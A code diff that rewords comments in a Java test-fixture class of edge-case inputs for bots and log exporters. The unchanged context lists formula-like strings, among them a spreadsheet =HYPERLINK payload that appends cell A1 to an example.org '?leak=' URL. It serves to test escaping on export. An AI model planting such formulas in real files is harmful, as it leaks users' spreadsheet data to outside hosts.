@@ -9,8 +9,8 @@ import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 
 /**
- * What makes life hard for bots, and for whoever shows or exports their log: phrases that no bot understands, texts
- * that look like formulas or HTML, very long texts, failures.
+ * Edge cases for bots and for programs that display or export their log: phrases that no bot understands, texts that
+ * look like formulas or HTML, very long texts, failures.
  */
 final class Oddities {
     static final String TIMEOUT = """
@@ -30,7 +30,10 @@ final class Oddities {
             \tat java.base/java.lang.Thread.run(Thread.java:1583)
             """;
 
-    /** A spreadsheet would calculate the first ones and a careless page run the others. */
+    /**
+     * Texts that a spreadsheet would evaluate as formulas, and texts that a page would execute if it does not escape
+     * them.
+     */
     private static final String[] UNTAMED = {
         "=1+1",
         "=HYPERLINK(\"https://example.org/?leak=\"&A1;\"click me\")",
@@ -103,7 +106,7 @@ final class Oddities {
                 + " nobody else was there and three of four counters were closed “for technical reasons”.");
     }
 
-    /** Some 4,000 characters in 20 paragraphs. */
+    /** Returns about 4,000 characters in 20 paragraphs. */
     private static String letter(String paragraph) {
         return IntStream.rangeClosed(1, 20)
                 .mapToObj(number -> number + paragraph)
